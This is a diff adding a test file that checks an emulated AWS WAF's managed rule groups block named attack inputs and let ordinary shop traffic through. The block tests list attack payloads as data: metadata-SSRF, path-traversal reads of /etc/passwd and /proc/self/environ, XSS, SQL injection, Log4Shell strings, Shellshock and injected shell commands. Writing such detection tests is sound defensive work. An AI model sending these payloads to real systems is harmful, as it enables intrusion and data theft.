@@ -1,0 +1,187 @@
+/** The managed groups: what each rule blocks, and that ordinary traffic passes all of them. */
+import { describe, expect, test } from 'vitest'
+import { RateLimiter } from '../rate-limiter.ts'
+import type { InspectedRequest } from '../request.ts'
+import { compileWebAcl } from '../web-acl.ts'
+import { managedGroupOf, managedGroups } from './index.ts'
+
+const VISIBILITY = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: 'm' }
+const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36'
+
+const aclOf = (names: readonly string[]) =>
+  compileWebAcl(
+    {
+      arn: 'arn',
+      name: 'all',
+      labelNamespace: 'awswaf:111122223333:webacl:all:',
+      defaultAction: { Allow: {} },
+      rules: names.map((Name, Priority) => ({
+        Name,
+        Priority,
+        Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name } },
+        OverrideAction: { None: {} },
+        VisibilityConfig: VISIBILITY,
+      })),
+    },
+    {
+      ipSet: () => undefined,
+      regexPatternSet: () => undefined,
+      ruleGroup: () => undefined,
+      managedRuleGroup: managedGroupOf,
+    },
+  )
+
+const request = (varied: Partial<InspectedRequest> & { readonly agent?: string | null } = {}): InspectedRequest => {
+  const { agent = BROWSER, headers = [], ...rest } = varied
+  return {
+    method: 'GET',
+    path: '/shop/items',
+    query: '',
+    httpVersion: '1.1',
+    body: '',
+    isBodyTruncated: false,
+    clientIp: '192.0.2.1',
+    ...rest,
+    headers: [['Host', 'shop.example'], ...(agent === null ? [] : [['User-Agent', agent] as const]), ...headers],
+  }
+}
+
+const form = (body: string): Partial<InspectedRequest> => ({
+  method: 'POST',
+  headers: [['Content-Type', 'application/x-www-form-urlencoded']],
+  body,
+})
+const json = (value: unknown): Partial<InspectedRequest> => ({
+  method: 'POST',
+  headers: [['Content-Type', 'application/json']],
+  body: JSON.stringify(value),
+})
+const header = (name: string, value: string): Partial<InspectedRequest> => ({ headers: [[name, value]] })
+
+const evaluated = (group: string, varied: Parameters<typeof request>[0]) =>
+  aclOf([group]).evaluate(request(varied), { rates: new RateLimiter(), now: 0, token: {} })
+const ruleOf = (group: string, varied: Parameters<typeof request>[0]) =>
+  evaluated(group, varied).groups[0]!.terminatingRule?.ruleId
+
+describe('each rule blocks what it is named after', () => {
+  test.each<[string, string, Parameters<typeof request>[0]]>([
+    ['Common', 'NoUserAgent_HEADER', { agent: null }],
+    ['Common', 'UserAgent_BadBots_HEADER', { agent: 'sqlmap/1.8' }],
+    ['Common', 'SizeRestrictions_QUERYSTRING', { query: `q=${'a'.repeat(2_048)}` }],
+    ['Common', 'SizeRestrictions_Cookie_HEADER', header('Cookie', 'a'.repeat(10_241))],
+    ['Common', 'SizeRestrictions_BODY', { ...form('a'.repeat(8_192)), isBodyTruncated: true }],
+    ['Common', 'SizeRestrictions_URIPATH', { path: `/${'a'.repeat(1_024)}` }],
+    ['Common', 'EC2MetaDataSSRF_QUERYARGUMENTS', { query: 'u=http%3A%2F%2F169.254.169.254%2Flatest' }],
+    ['Common', 'EC2MetaDataSSRF_BODY', json({ url: 'http://2852039166/' })],
+    ['Common', 'EC2MetaDataSSRF_COOKIE', header('Cookie', 'u=http://169.254.169.254/')],
+    ['Common', 'GenericLFI_QUERYARGUMENTS', { query: 'f=..%252f..%252fetc/passwd' }],
+    ['Common', 'GenericLFI_QUERYARGUMENTS', { query: 'f=/etc/shadow' }],
+    ['Common', 'GenericLFI_BODY', form('f=..\\..\\windows\\win.ini')],
+    ['Common', 'RestrictedExtensions_URIPATH', { path: '/backup/site.sql' }],
+    ['Common', 'RestrictedExtensions_URIPATH', { path: '/.env' }],
+    ['Common', 'GenericRFI_QUERYARGUMENTS', { query: 'page=http://203.0.113.9/x.txt' }],
+    ['Common', 'CrossSiteScripting_QUERYARGUMENTS', { query: 'q=%3Cscript%3Ealert(1)' }],
+    ['Common', 'CrossSiteScripting_BODY', json({ a: ['<img src=x onerror=alert(1)>'] })],
+    ['Common', 'CrossSiteScripting_URIPATH', { path: '/%3Csvg/onload=alert(1)%3E' }],
+    ['Common', 'CrossSiteScripting_COOKIE', header('Cookie', 'a="><script>x</script>')],
+    ['KnownBadInputs', 'JavaDeserializationRCE_BODY', json({ data: 'rO0ABXNyAA' })],
+    ['KnownBadInputs', 'JavaDeserializationRCE_HEADER', header('Content-Type', '%{(#context=1).(exec)}')],
+    [
+      'KnownBadInputs',
+      'Host_localhost_HEADER',
+      { headers: [], path: '/', agent: BROWSER, ...header('Host', 'localhost:80') },
+    ],
+    ['KnownBadInputs', 'PROPFIND_METHOD', { method: 'PROPFIND' }],
+    ['KnownBadInputs', 'ExploitablePaths_URIPATH', { path: '/a/..//.env' }],
+    ['KnownBadInputs', 'Log4JRCE_HEADER', header('X-Api-Version', '${jndi:ldap://x.example/a}')],
+    ['KnownBadInputs', 'Log4JRCE_QUERYSTRING', { query: 'q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D' }],
+    ['KnownBadInputs', 'ReactJSRCE_BODY', json({ key: '$1:__proto__:then' })],
+    ['SQLi', 'SQLi_QUERYARGUMENTS', { query: "id=1'%20or%201=1--" }],
+    ['SQLi', 'SQLi_BODY', form("user=admin'--&password=x")],
+    ['SQLi', 'SQLi_BODY', json({ id: '1 union select 1,2' })],
+    ['SQLi', 'SQLi_COOKIE', header('Cookie', "id=1' or '1'='1")],
+    ['SQLi', 'SQLiExtendedPatterns_QUERYARGUMENTS', { query: 'user[$ne]=x' }],
+    ['AdminProtection', 'AdminProtection_URIPATH', { path: '/x/../PHPMyAdmin/' }],
+    ['Linux', 'LFI_URIPATH', { path: '/x/..%2f..%2fetc/passwd' }],
+    ['Linux', 'LFI_QUERYSTRING', { query: 'f=/proc/self/environ' }],
+    ['Unix', 'UNIXShellCommandsVariables_QUERYSTRING', { query: 'ip=1;cat%20/etc/hosts' }],
+    ['Unix', 'UNIXShellCommandsVariables_BODY', form('ip=$(id)')],
+    ['Unix', 'UNIXShellCommandsVariables_HEADER', header('X-A', '() { :; }; /bin/bash -c id')],
+    ['Windows', 'WindowsShellCommands_QUERYARGUMENTS', { query: 'x=%26dir%20c:\\' }],
+    ['Windows', 'PowerShellCommands_BODY', json({ a: 'powershell -enc aQBkAA' })],
+    ['PHP', 'PHPHighRiskMethodsVariables_QUERYSTRING', { query: 'x=system(%27id%27)' }],
+    ['PHP', 'PHPHighRiskMethodsVariables_BODY', form('x=<?php echo 1')],
+    ['WordPress', 'WordPressExploitablePaths_URIPATH', { path: '/xmlrpc.php' }],
+  ])('%s: %s', (group, rule, varied) => {
+    expect(ruleOf(`AWSManagedRules${group}RuleSet`, varied)).toBe(rule)
+  })
+
+  test('with the label that AWS gives it', () => {
+    expect(evaluated('AWSManagedRulesCommonRuleSet', { query: 'q=%3Cscript%3Ealert(1)' }).labels).toEqual([
+      'awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments',
+    ])
+  })
+})
+
+describe('ordinary traffic passes all groups but that of administrative pages', () => {
+  const all = aclOf(managedGroups.map(({ name }) => name).filter((name) => !/Admin/.test(name)))
+  const order = {
+    order: 'A-1742',
+    customer: { name: "Miles O'Brien", mail: 'miles@example.com', address: "12 St John's Street; flat 3 & garage" },
+    items: [{ sku: 'SKU-1000', price: 19.95, note: 'please wrap (and label) it: "for Ann" -- thanks!' }],
+  }
+  test.each<[string, Parameters<typeof request>[0]]>([
+    ['a page', { path: '/shop/items', query: 'id=1742&sort=price&q=blue+shoes' }],
+    [
+      'headers of a browser',
+      {
+        headers: [
+          ['Accept', 'text/html,application/xhtml+xml,*/*;q=0.8'],
+          ['Accept-Language', 'en-GB,en;q=0.8'],
+          ['Cookie', 'sid=8f2c7d1a; theme=dark; _ga=GA1.2.3'],
+        ],
+      },
+    ],
+    ['an order', json(order)],
+    [
+      'a comment',
+      form(
+        `text=${encodeURIComponent("It's great, isn't it? 1 or 2 of them; select the best one & order from the shop. Don't drop it!")}`,
+      ),
+    ],
+    ['a search for code', { query: `q=${encodeURIComponent('for (let i = 0; i < n; i++) sum += a[i]')}` }],
+    ['a link', { query: `next=${encodeURIComponent('https://shop.example/cart?step=2')}` }],
+    ['a token', header('X-Request-Id', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.s-_a')],
+    [
+      'an upload',
+      {
+        method: 'POST',
+        headers: [['Content-Type', 'multipart/form-data; boundary=X']],
+        body: '--X\r\nContent-Disposition: form-data; name="photo"; filename="cat (1).jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--X--\r\n',
+      },
+    ],
+    [
+      'binary data',
+      { method: 'PUT', headers: [['Content-Type', 'application/octet-stream']], body: "\0\x01' or 1=1--<script>" },
+    ],
+    [
+      'names and prose',
+      form('name=D%27Angelo+%26+Sons&note=The+union+and+the+select+committee+met+at+5+or+6%3B+table+dropped'),
+    ],
+    ['static files', { path: '/static/app.3f2a.js' }],
+  ])('%s', (_, varied) => {
+    const verdict = all.evaluate(request(varied), { rates: new RateLimiter(), now: 0, token: {} })
+    expect([verdict.action, verdict.groups.flatMap(({ terminatingRule }) => terminatingRule?.ruleId ?? [])]).toEqual([
+      'ALLOW',
+      [],
+    ])
+  })
+})
+
+test('Names of groups and of their rules are unique, and versions are named', () => {
+  expect(new Set(managedGroups.map(({ vendor, name }) => `${vendor} ${name}`)).size).toBe(managedGroups.length)
+  for (const { rules, versions } of managedGroups) {
+    expect(new Set(rules.map(({ Name }) => Name)).size).toBe(rules.length)
+    expect(versions.length).toBeGreaterThan(0)
+  }
+})
